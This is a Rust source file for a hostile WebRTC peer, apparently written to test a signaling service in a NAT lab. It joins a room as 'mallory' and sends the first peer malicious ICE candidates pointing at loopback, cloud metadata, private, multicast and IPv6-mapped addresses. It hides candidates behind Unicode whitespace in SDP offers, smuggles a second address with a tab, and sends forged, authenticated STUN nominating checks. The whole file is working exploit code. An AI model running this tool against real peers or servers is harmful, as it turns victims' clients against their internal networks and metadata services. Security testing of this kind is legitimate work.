//! A peer that aims whoever is in a room at hosts that are no peers: `hostile URL ROOM CANDIDATES OWN SOURCES`. It offers,
//! with candidates in the description, hidden behind white space in another before it, and after it, from as many sessions as
//! it takes, each ended by one candidate that is its own socket at OWN; and it sends authenticated checks from the SOURCES,
//! comma-separated, to make candidates of those. It knows that everything was handled when its own socket has been checked.
//! For the NAT laboratory.

use std::{
    error::Error,
    net::{IpAddr, SocketAddr},
    time::Duration,
};

use hmac::{Hmac, KeyInit, Mac};
use patchcord_proto::v1::{
    SignalRequest, SignalResponse,
    signal_request::{Candidate, Join, Leave, Message as Ask, Offer},
    signal_response::Message as Told,
    signaling_service_client::SignalingServiceClient,
};
use tokio::{
    net::UdpSocket,
    sync::mpsc,
    task::JoinSet,
    time::{Instant, sleep, timeout},
};
use tokio_stream::wrappers::ReceiverStream;
use tonic::{Streaming, transport::Channel};

type Outcome<T> = Result<T, Box<dyn Error + Send + Sync>>;

/// What a client takes in one ICE generation, less the one that is honest.
const CANDIDATES_PER_SESSION: usize = 63;
/// What they say at once fits into the outbox of the one that they aim at: the server passes on no more than 120 messages
/// that wait there, and the candidate that ends a session is the last one.
const SESSIONS_AT_ONCE: usize = 3;
/// Checks of its own socket after which every other pair has had its turn.
const CHECKS: usize = 4;
/// From where no candidate is named, checks are not heard at first.
const HEARD_AFTER: Duration = Duration::from_millis(300);
const PATIENCE: Duration = Duration::from_secs(20);

/// With `#` for a number that changes.
const AIMS: [&str; 30] = [
    "127.0.0.#",
    "127.#.0.1",
    "0.0.0.#",
    "0.0.0.0",
    "169.254.169.254",
    "169.254.7.#",
    "10.99.0.#",
    "172.16.9.#",
    "192.168.77.#",
    "100.64.7.#",
    "192.0.0.#",
    "192.0.2.#",
    "198.18.0.#",
    "198.51.100.#",
    "203.0.113.#",
    "224.0.0.#",
    "240.0.0.#",
    "255.255.255.255",
    "::1",
    "::",
    "fe80::#",
    "fec0::#",
    "ff02::#",
    "fd99::#",
    "::ffff:127.0.0.#",
    "64:ff9b::7f00:#",
    "2002:7f00:1::#",
    "localhost",
    "printer.local",
    "11.0.0.1\t127.0.0.#",
];

struct Session {
    victim: String,
    requests: mpsc::Sender<SignalRequest>,
    responses: Streaming<SignalResponse>,
}

#[tokio::main]
async fn main() -> Outcome<()> {
    let arguments: Vec<String> = std::env::args().skip(1).collect();
    let [url, room, candidates, own, sources] = &arguments[..] else {
        return Err("usage: hostile URL ROOM CANDIDATES OWN SOURCES".into());
    };
    let sessions = candidates.parse::<usize>()?.div_ceil(CANDIDATES_PER_SESSION);
    let own: IpAddr = own.parse()?;
    let sources = sources.split(',').map(str::parse).collect::<Result<Vec<IpAddr>, _>>()?;
    let channel = Channel::from_shared(url.clone())?.connect().await?;
    let (mut running, mut done) = (JoinSet::new(), 0);
    for number in 0..sessions {
        if running.len() == SESSIONS_AT_ONCE {
            running.join_next().await.ok_or("a session is running")???;
            done += 1;
        }
        let (channel, room, sources) = (channel.clone(), room.clone(), sources.clone());
        running.spawn(async move { timeout(PATIENCE, attack(channel, room, number, own, sources)).await? });
    }
    while let Some(ended) = running.join_next().await {
        ended??;
        done += 1;
    }
    println!("{done} sessions with {} hostile candidates each are over", CANDIDATES_PER_SESSION);
    Ok(())
}

async fn join(channel: Channel, room: &str) -> Outcome<Session> {
    loop {
        let (requests, stream) = mpsc::channel(256);
        let mut client = SignalingServiceClient::new(channel.clone());
        let mut responses = client.signal(ReceiverStream::new(stream)).await?.into_inner();
        let join = Join { room: room.into(), display_name: "mallory".into(), ..Join::default() };
        requests.send(SignalRequest { seq: 0, ack: 0, message: Some(Ask::Join(join)) }).await?;
        match responses.message().await?.and_then(|response| response.message) {
            Some(Told::Joined(joined)) => {
                // Whoever came first is the one aimed at; the others are sessions of ours.
                let victim = joined.peers.first().ok_or("nobody is here")?.peer_id.clone();
                return Ok(Session { victim, requests, responses });
            }
            // Joins to one room are paced.
            Some(Told::Rejected(_)) => sleep(Duration::from_millis(100)).await,
            other => return Err(format!("not joined: {other:?}").into()),
        }
    }
}

impl Session {
    async fn ask(&self, message: Ask) -> Outcome<()> {
        Ok(self.requests.send(SignalRequest { seq: 0, ack: 0, message: Some(message) }).await?)
    }

    async fn candidate(&self, text: String) -> Outcome<()> {
        let to_peer_id = self.victim.clone();
        let (sdp_mid, sdp_m_line_index) = (Some("0".into()), Some(0));
        self.ask(Ask::Candidate(Candidate {
            to_peer_id,
            candidate: text,
            sdp_mid,
            sdp_m_line_index,
            username_fragment: None,
        }))
        .await
    }
}

fn hostile(number: usize) -> String {
    let aim = AIMS[number % AIMS.len()].replace('#', &(1 + number % 250).to_string());
    // Some with a port that only services have, on hosts that are peers otherwise.
    let (aim, port) = if number % 31 == 30 { ("11.0.0.1".into(), 53) } else { (aim, 5000 + number % 50_000) };
    let kind = ["host", "srflx raddr 127.0.0.1 rport 22", "relay raddr 169.254.169.254 rport 80"][number % 3];
    format!("candidate:{number} 1 udp {} {aim} {port} typ {kind}", 2_000_000_000 - number)
}

async fn attack(
    channel: Channel,
    room: String,
    number: usize,
    own: IpAddr,
    sources: Vec<IpAddr>,
) -> Outcome<()> {
    let mut session = join(channel, &room).await?;
    let socket = UdpSocket::bind((own, 0)).await?;
    let fragment = format!("mallory{number}");
    let first = number * CANDIDATES_PER_SESSION;
    let half = CANDIDATES_PER_SESSION / 2;
    let described: String = (first..first + half)
        .map(|number| format!("a={}\r\n", hostile(number)))
        .filter(|line| !line.contains('\t'))
        .collect();
    let digest = ["4A"; 32].join(":");
    let sdp = format!(
        "v=0\r\no=- {number} 1 IN IP4 127.0.0.1\r\ns=-\r\nt=0 0\r\na=group:BUNDLE 0\r\n\
         m=application 9 UDP/DTLS/SCTP webrtc-datachannel\r\nc=IN IP4 169.254.169.254\r\na=mid:0\r\na=setup:actpass\r\n\
         a=sctp-port:5000\r\na=ice-ufrag:{fragment}\r\na=ice-pwd:mallorymallorymallorymallory\r\n\
         a=fingerprint:sha-256 {digest}\r\na=fingerprint:SHA-256 {digest}\r\n{described}"
    );
    // The engine would find these where a prefix does not.
    let space = [" ", "\u{a0}", "\u{2003}"][number % 3];
    let hidden = sdp.replace("a=candidate:", &format!("a={space}candidate:"));
    session.ask(Ask::Offer(Offer { to_peer_id: session.victim.clone(), sdp: hidden })).await?;
    session.ask(Ask::Offer(Offer { to_peer_id: session.victim.clone(), sdp })).await?;
    for number in first + half..first + CANDIDATES_PER_SESSION {
        session.candidate(hostile(number)).await?;
    }
    let port = socket.local_addr()?.port();
    session.candidate(format!("candidate:own 1 udp 1 {own} {port} typ host")).await?;
    let (credentials, victim) = answer(&mut session, own).await?;
    let mut unnamed = Vec::new();
    for source in sources.iter().filter(|source| source.is_ipv4() == victim.is_ipv4()) {
        unnamed.push(UdpSocket::bind((*source, 0)).await?);
    }
    let (begun, mut datagram, mut checks) = (Instant::now(), [0; 2048], 0);
    while checks < CHECKS {
        for (source, transaction) in unnamed.iter().zip(checks as u8..) {
            let check = check(&format!("{}:{fragment}", credentials.0), &credentials.1, transaction);
            // Where no route leads there is nothing to be made of it.
            let _ = source.send_to(&check, victim).await;
        }
        socket.recv_from(&mut datagram).await?;
        if begun.elapsed() > HEARD_AFTER {
            checks += 1;
        }
    }
    session.ask(Ask::Leave(Leave::default())).await?;
    // A stream that is dropped leaves its session behind.
    while let Some(response) = session.responses.message().await? {
        drop(response);
    }
    Ok(())
}

/// The fragment and password of whoever answers, and an address that it names.
async fn answer(session: &mut Session, own: IpAddr) -> Outcome<((String, String), SocketAddr)> {
    let (mut credentials, mut address) = (None, None);
    loop {
        match session.responses.message().await?.ok_or("the stream ended")?.message {
            Some(Told::Answer(answer)) if answer.from_peer_id == session.victim => {
                let value =
                    |name| answer.sdp.lines().find_map(|line| line.strip_prefix(name)).map(str::to_owned);
                credentials = value("a=ice-ufrag:").zip(value("a=ice-pwd:"));
            }
            Some(Told::Candidate(candidate)) if candidate.from_peer_id == session.victim => {
                let fields: Vec<&str> = candidate.candidate.split(' ').collect();
                if let [_, _, _, _, ip, port, _, "host", ..] = fields[..] {
                    let named: IpAddr = ip.parse()?;
                    if named.is_ipv4() == own.is_ipv4() {
                        address = Some(SocketAddr::new(named, port.parse()?));
                    }
                }
            }
            _ => {}
        }
        if let (Some(credentials), Some(address)) = (&credentials, address) {
            return Ok((credentials.clone(), address));
        }
    }
}

/// A connectivity check that nominates (RFC 8445 section 7.2.2).
fn check(username: &str, password: &str, transaction: u8) -> Vec<u8> {
    let mut message = vec![0, 1, 0, 0, 0x21, 0x12, 0xA4, 0x42];
    message.extend([transaction; 12]);
    let mut attribute = |kind: u16, value: &[u8]| {
        message.extend(kind.to_be_bytes());
        message.extend((value.len() as u16).to_be_bytes());
        message.extend(value);
        message.resize(message.len().next_multiple_of(4), 0);
    };
    attribute(0x0006, username.as_bytes());
    attribute(0x0024, &1_845_494_271_u32.to_be_bytes());
    attribute(0x802A, &7_u64.to_be_bytes());
    attribute(0x0025, &[]);
    let length = |message: &mut Vec<u8>, more: usize| {
        let length = (message.len() - 20 + more) as u16;
        message[2..4].copy_from_slice(&length.to_be_bytes());
    };
    length(&mut message, 24);
    let mut mac = Hmac::<sha1::Sha1>::new_from_slice(password.as_bytes()).expect("any length is a key");
    mac.update(&message);
    message.extend([0, 8, 0, 20]);
    message.extend(mac.finalize().into_bytes());
    length(&mut message, 8);
    let checksum = crc32(&message) ^ 0x5354_554e;
    message.extend([0x80, 0x28, 0, 4]);
    message.extend(checksum.to_be_bytes());
    message
}

fn crc32(bytes: &[u8]) -> u32 {
    !bytes.iter().fold(u32::MAX, |sum, byte| {
        (0..8).fold(sum ^ u32::from(*byte), |sum, _| (sum >> 1) ^ (0xEDB8_8320 & (sum & 1).wrapping_neg()))
    })
}
